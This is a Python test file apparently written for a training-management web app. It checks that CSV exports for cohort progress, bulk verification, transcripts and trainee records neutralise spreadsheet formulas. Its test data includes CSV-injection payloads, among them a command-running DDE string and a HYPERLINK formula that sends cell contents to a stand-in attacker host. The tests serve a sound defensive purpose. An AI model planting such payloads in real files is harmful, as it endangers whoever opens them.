"""F10: every CSV the app hands out goes through one writer, so no cell can start a spreadsheet formula."""

import csv
import io
import shutil
from datetime import date

from sqlalchemy import select

from lms.auth.models import User
from lms.cohorts.roster import create_cohort
from lms.extensions import db

from helpers import PASSWORD, TEST_CONTENT, csrf_token, post

HOSTILE_EMAIL = "=cmd|'/Ccalc'!A0@example.org"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells(body: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def assert_no_formula(body: str) -> None:
    bad = [cell for cell in cells(body) if cell.startswith(FORMULA_STARTS)]
    assert not bad, f"cells a spreadsheet would run: {bad}"


def signed_in(app, email: str):
    client = app.test_client()
    assert post(client, "/account/login", {"email": email, "password": PASSWORD}).status_code == 302
    return client


def test_a_self_registered_trainees_formula_email_is_neutralised_in_the_cohort_csv(app, make_user):
    make_user(email="coach@example.org", role="trainer")
    trainer = db.session.scalar(select(User).where(User.email == "coach@example.org"))
    cohort = create_cohort("Spring", "sample", date(2027, 3, 1), date(2027, 6, 1), trainer)
    db.session.commit()
    attacker = app.test_client()
    registered = post(
        attacker,
        "/account/register",
        {
            "email": HOSTILE_EMAIL,
            "display_name": "@SUM(1+1)*cmd|' /C calc'!A0",
            "legal_name": "Mallory",
            "password": PASSWORD,
            "confirm": PASSWORD,
            "privacy": "y",
        },
        page="/account/register",
    )
    assert registered.status_code == 302
    attacker = signed_in(app, HOSTILE_EMAIL)
    assert post(attacker, "/join", {"code": cohort.join_code}, page=f"/join/{cohort.join_code}").status_code == 302

    coach = signed_in(app, "coach@example.org")
    with coach.get(f"/staff/cohorts/{cohort.id}/progress.csv") as response:
        assert response.status_code == 200
        body = response.get_data(as_text=True)
    assert "'" + HOSTILE_EMAIL.lower() in cells(body)
    assert_no_formula(body)


def test_a_hyperlink_row_in_a_bulk_verification_upload_comes_back_neutralised(app):
    visitor = app.test_client()
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    upload = "id\n" + '"' + hostile.replace('"', '""') + '"\n' + "+1-2\n@SUM(A1)\n-2+3\n"
    response = visitor.post(
        "/verify/bulk",
        data={"csrf_token": csrf_token(visitor, "/verify/bulk"), "file": (io.BytesIO(upload.encode()), "ids.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 200 and response.mimetype == "text/csv"
    body = response.get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(body)))
    assert [r["id"] for r in rows][0] == "'" + hostile
    assert_no_formula(body)


def test_a_formula_live_session_title_is_neutralised_in_the_transcript_csv(app, make_user):
    make_user(email="coach@example.org", role="trainer")
    trainee = make_user(email="t@example.org")
    trainer = db.session.scalar(select(User).where(User.email == "coach@example.org"))
    cohort = create_cohort("Spring", "sample", date(2027, 3, 1), date(2027, 6, 1), trainer)
    db.session.commit()
    client = signed_in(app, "t@example.org")
    post(client, "/join", {"code": cohort.join_code}, page=f"/join/{cohort.join_code}")
    coach = signed_in(app, "coach@example.org")
    page = f"/staff/cohorts/{cohort.id}"
    recorded = post(
        coach,
        f"{page}/sessions",
        {
            "title": '=HYPERLINK("http://evil.example")',
            "held_on": "2027-03-08",
            "minutes": "60",
            "domain": "ethics",
            "attendees": [str(trainee.id)],
        },
        page=page,
    )
    assert recorded.status_code == 302
    for url in (f"/staff/trainees/{trainee.id}/transcript.csv", "/dashboard/transcript.csv"):
        with (coach if url.startswith("/staff") else client).get(url) as response:
            assert response.status_code == 200
            body = response.get_data(as_text=True)
        assert '\'=HYPERLINK("http://evil.example")' in cells(body)
        assert_no_formula(body)


def test_a_formula_title_from_content_is_neutralised_in_the_trainee_record_csv(app_factory, tmp_path, make_user):
    root = tmp_path / "content"
    shutil.copytree(TEST_CONTENT, root)
    lesson = root / "modules/listening/index.md"
    lesson.write_text(lesson.read_text().replace("title: Listening", "title: \"-2+3+cmd|' /C calc'!A0\"", 1))
    app = app_factory(CONTENT_DIR=str(root))
    with app.app_context():
        make_user(email="admin@example.org", role="admin")
        trainee_id = make_user(email="t@example.org").id
    client = signed_in(app, "t@example.org")
    assert client.get("/courses/sample/listening/").status_code == 200
    admin = signed_in(app, "admin@example.org")
    with admin.get(f"/staff/trainees/{trainee_id}/record.csv") as response:
        assert response.status_code == 200
        body = response.get_data(as_text=True)
    assert "'-2+3+cmd|' /C calc'!A0" in cells(body)
    assert_no_formula(body)
